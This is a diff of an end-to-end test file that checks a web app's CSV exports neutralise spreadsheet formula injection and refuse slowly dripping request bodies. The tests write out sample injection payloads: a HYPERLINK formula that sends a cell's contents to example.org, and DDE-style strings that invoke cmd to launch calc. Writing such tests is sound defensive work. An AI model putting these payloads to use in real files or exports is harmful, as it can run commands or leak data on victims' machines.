@@ -1,7 +1,8 @@
-import { request as ask, type IncomingHttpHeaders } from 'node:http';
+import { PassThrough } from 'node:stream';
 import { gzipSync } from 'node:zlib';
 import { sign } from '@octokit/webhooks-methods';
 import { applicationUrl, webhookSecret } from '@/e2e/application';
+import { asked } from '@/e2e/asked';
 import { expect, test } from '@/e2e/fixtures';
 import { member } from '@/e2e/member';
 
@@ -89,6 +90,46 @@ test('a path that is a formula is text in the rows that are saved', async ({
   expect(csv).not.toMatch(/(^|[,\n]"?)=/);
 });
 
+/** The cells of a CSV file, line by line. */
+const cellsOf = (csv: string) =>
+  [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = '']) =>
+    cell.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"'),
+  );
+const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+
+test('what is a formula in a title or a reason is text in every list that is saved', async ({
+  request,
+  post,
+  repository,
+}) => {
+  const title = '=HYPERLINK("https://example.org?"&A1,"open")';
+  const cause = "+2+3+cmd|' /C calc'!A0";
+  const reason = '@SUM(1+1)*cmd|A0';
+  const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toISOString();
+  const change = { title, authorship: 'agent', agent: 'codex', mergedAt: daysAgo(60) };
+  const incident = { incident: 'INC-1', title: cause, changes: [{ number: 1 }] };
+  const told = [
+    merged(repository, change),
+    { type: 'incident.opened', repository, at: daysAgo(58), ...incident },
+  ];
+  expect(await post(told)).toMatchObject({ status: 200 });
+  const id = `${repository}/1`;
+  const override = { id, authorship: 'agent', agent: 'codex', reason };
+  expect((await request.put('/api/v1/override', { data: override })).status()).toBe(200);
+  const saved: [string, string[]][] = [
+    [`/api/v1/changes.csv?repository=${repository}`, [title]],
+    [`/api/v1/regressions.csv?repository=${repository}`, [title, cause]],
+    [`/api/v1/audit.csv?search=${encodeURIComponent(repository)}`, [reason]],
+  ];
+  for (const [path, formulas] of saved) {
+    const response = await request.get(path);
+    expect(response.headers()['content-disposition'], path).toContain('attachment');
+    const cells = cellsOf(await response.text());
+    expect(cells.filter(isFormula), path).toEqual([]);
+    for (const formula of formulas) expect(cells, path).toContain(`'${formula}`);
+  }
+});
+
 const deep = '['.repeat(100_000) + ']'.repeat(100_000);
 const refusals: [string, string, object, string | Buffer, number][] = [
   ['nested without end', '/api/v1/events', {}, deep, 400],
@@ -125,24 +166,17 @@ for (const [name, path, headers, data, status] of refusals) {
   });
 }
 
-/** A request from another address of this machine, so that what it spends is its own. */
-function asked(
-  localAddress: string,
-  path: string,
-  headers: Record<string, string>,
-  body = '',
-  method = 'POST',
-): Promise<{ status: number; headers: IncomingHttpHeaders }> {
-  const { port } = new URL(applicationUrl);
-  return new Promise((resolve, reject) => {
-    ask({ host: '127.0.0.1', port, path, headers, localAddress, method }, (response) => {
-      response.resume();
-      resolve({ status: response.statusCode ?? 0, headers: response.headers });
-    })
-      .on('error', reject)
-      .end(body);
-  });
-}
+test('a body that never comes to its end is refused, however steadily it drips', async ({
+  token,
+}) => {
+  const drip = new PassThrough();
+  const dripping = setInterval(() => drip.write(' '), 500);
+  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+  const { status } = await asked('127.0.0.1', '/api/v1/events', headers, drip);
+  clearInterval(dripping);
+  drip.destroy();
+  expect(status).toBe(408);
+});
 
 test('headers without end are refused', async () => {
   const { status } = await asked('127.0.0.1', '/healthz', { 'x-much': 'x'.repeat(17_000) });
